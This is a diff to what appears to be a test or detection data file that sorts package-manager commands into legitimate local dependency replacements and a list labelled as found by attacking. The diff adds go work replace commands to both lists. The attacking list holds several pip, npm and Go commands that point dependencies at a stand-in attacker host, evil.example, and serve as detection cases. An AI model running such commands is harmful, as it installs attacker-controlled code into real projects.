@@ -43,6 +43,7 @@ OWN_DEPENDENCY_PLACES = [
     "go mod edit -replace github.com/acme/auth=github.com/acme/auth-fork@v1.2.4",
     "echo 'replace github.com/acme/auth => ./auth' >> go.mod",
     "go mod tidy",
+    "go work edit -replace github.com/acme/auth=../auth",
     "go get github.com/stretchr/testify@v1.9.0",
 ]
 OTHER_REGISTRIES = [
@@ -186,6 +187,8 @@ FOUND_BY_ATTACKING = [
     "pip config set global.find-links HTTPS://evil.example/wheels",
     "npm --cache config install github:evil/pkg",
     "pip --log config install git+ssh://git@evil.example/x.git",
+    "go work edit -replace github.com/acme/auth=evil.example/auth@v1.2.3",
+    "echo 'replace golang.org/x/net => evil.example/net v0.1.0' >> go.work",
 ]
 
 
